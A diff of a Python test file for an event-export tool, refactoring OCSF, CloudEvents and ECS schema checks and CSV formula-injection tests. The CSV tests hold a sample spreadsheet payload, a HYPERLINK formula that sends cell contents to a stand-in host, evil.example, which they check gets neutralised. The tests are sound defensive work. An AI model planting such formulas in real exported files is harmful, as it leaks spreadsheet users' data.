@@ -111,42 +111,23 @@ def test_several_lines_at_once_are_the_lines_one_by_one() -> None:
     assert len(found) > len(whole) > 0
 
 
-# ---- OCSF ----------------------------------------------------------------------------------------------------------
+# ---- formats with a published schema --------------------------------------------------------------------------------
+
+OCSF = jsonschema_rs.validator_for(
+    OcsfJsonSchemaEmbedded(get_ocsf_schema(version=ocsf.VERSION)).get_class_schema(
+        class_name="entity_management", profiles=[]
+    )
+)
 
 
-@pytest.fixture(scope="module")
-def ocsf_schema() -> jsonschema_rs.Validator:
-    schema = OcsfJsonSchemaEmbedded(get_ocsf_schema(version=ocsf.VERSION))
-    return jsonschema_rs.validator_for(schema.get_class_schema(class_name="entity_management", profiles=[]))
-
-
-def check_ocsf(schema: jsonschema_rs.Validator, found: dict[str, Any]) -> None:
-    schema.validate(found)
+def check_ocsf(found: dict[str, Any]) -> None:
+    OCSF.validate(found)
     model = EntityManagement.model_validate(found)
     assert (model.class_uid, model.type_uid) == (3004, 300400 + found["activity_id"])
 
 
-def test_ocsf_of_every_type(ocsf_schema: jsonschema_rs.Validator) -> None:
-    for event in events():
-        check_ocsf(ocsf_schema, json.loads(FORMATS["ocsf"].line(event)))
-
-
-@pytest.mark.anyio
-@pytest.mark.parametrize("include", [{}, {"include": "raw"}], ids=str)
-async def test_ocsf_of_real_accounts(
-    world: World, ocsf_schema: jsonschema_rs.Validator, include: dict[str, str]
-) -> None:
-    for found in await exported(world, "ocsf", **include):
-        check_ocsf(ocsf_schema, found)
-        assert ("raw_data" in found) == bool(include)
-
-
-# ---- CloudEvents ---------------------------------------------------------------------------------------------------
-
-
-def check_cloudevent(line: bytes) -> None:
-    event = JSONFormat().read(CloudEvent, line)
-    found = json.loads(line)
+def check_cloudevent(found: dict[str, Any]) -> None:
+    event = JSONFormat().read(CloudEvent, json.dumps(found).encode())
     assert event.get_specversion() == "1.0"
     assert event.get_id() == found["data"]["id"]
     assert event.get_time() is not None
@@ -157,20 +138,6 @@ def check_cloudevent(line: bytes) -> None:
         assert name.islower(), name
         assert name == "data" or isinstance(value, str)
 
-
-def test_cloudevents_of_every_type() -> None:
-    for event in events():
-        check_cloudevent(FORMATS["cloudevents"].line(event))
-    assert json.loads(FORMATS["cloudevents"].line(event))["source"] == "/sources/my%20source%2F%C3%A9"
-
-
-@pytest.mark.anyio
-async def test_cloudevents_of_real_accounts(world: World) -> None:
-    for found in await exported(world, "cloudevents"):
-        check_cloudevent(json.dumps(found).encode())
-
-
-# ---- ECS -----------------------------------------------------------------------------------------------------------
 
 #: Of the ECS 8.17 field reference: the fields in use, and whether they are arrays.
 ECS_FIELDS = {
@@ -212,15 +179,24 @@ def flat(value: dict[str, Any], path: str = "") -> Iterator[tuple[str, Any]]:
             yield f"{path}{name}", item
 
 
-def test_ecs_of_every_type() -> None:
+CHECKS = {"ocsf": check_ocsf, "cloudevents": check_cloudevent, "ecs": check_ecs}
+
+
+@pytest.mark.parametrize("form", CHECKS)
+def test_every_type(form: str) -> None:
     for event in events():
-        check_ecs(json.loads(FORMATS["ecs"].line(event)))
+        found = json.loads(FORMATS[form].line(event))
+        assert form != "cloudevents" or found["source"] == "/sources/my%20source%2F%C3%A9"
+        CHECKS[form](found)
 
 
 @pytest.mark.anyio
-async def test_ecs_of_real_accounts(world: World) -> None:
-    for found in await exported(world, "ecs", include="raw"):
-        check_ecs(found)
+@pytest.mark.parametrize("include", [{}, {"include": "raw"}], ids=["plain", "raw"])
+@pytest.mark.parametrize("form", CHECKS)
+async def test_real_accounts(world: World, form: str, include: dict[str, str]) -> None:
+    for found in await exported(world, form, **include):
+        assert form != "ocsf" or ("raw_data" in found) == bool(include)
+        CHECKS[form](found)
 
 
 # ---- CSV -----------------------------------------------------------------------------------------------------------
@@ -229,23 +205,15 @@ INVISIBLE = ["", " ", "\t", "\r", "\n", "\0", "\u00a0", "\u200b", "\ufeff", "\u3
 STARTS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212", "\ufe66"]
 
 
-@pytest.mark.parametrize("start", STARTS)
-@pytest.mark.parametrize("before", INVISIBLE, ids=ascii)
-def test_what_a_spreadsheet_would_run_gets_an_apostrophe(before: str, start: str) -> None:
-    value = f'{before}{start}HYPERLINK("https://evil.example?"&A1)'
-    assert neutral(value) == f"'{value}"
-
-
-@pytest.mark.parametrize("value", ["\tx", "\rx", "\nx", "\0x", "'=1", "'quoted'"], ids=ascii)
-def test_and_so_does_what_could_be_taken_for_one_later(value: str) -> None:
-    assert neutral(value) == f"'{value}"
-
-
-@pytest.mark.parametrize(
-    "value", ["", "Anna", "anna+x@example.com", "2026-05-01T00:00:00Z", "***", "a=b", " x", '{"a":1}']
-)
-def test_anything_else_stays_as_it_is(value: str) -> None:
-    assert neutral(value) == value
+def test_what_a_spreadsheet_would_run_gets_an_apostrophe() -> None:
+    """And what it could take for a formula later, or for an apostrophe of ours; anything else stays as it is."""
+    for before, start in itertools.product(INVISIBLE, STARTS):
+        value = f'{before}{start}HYPERLINK("https://evil.example?"&A1)'
+        assert neutral(value) == f"'{value}"
+    for value in ("\tx", "\rx", "\nx", "\0x", "'=1", "'quoted'"):
+        assert neutral(value) == f"'{value}"
+    for value in ("", "Anna", "anna+x@example.com", "2026-05-01T00:00:00Z", "***", "a=b", " x", '{"a":1}'):
+        assert neutral(value) == value
 
 
 def test_taking_one_apostrophe_away_gives_every_value_back() -> None:
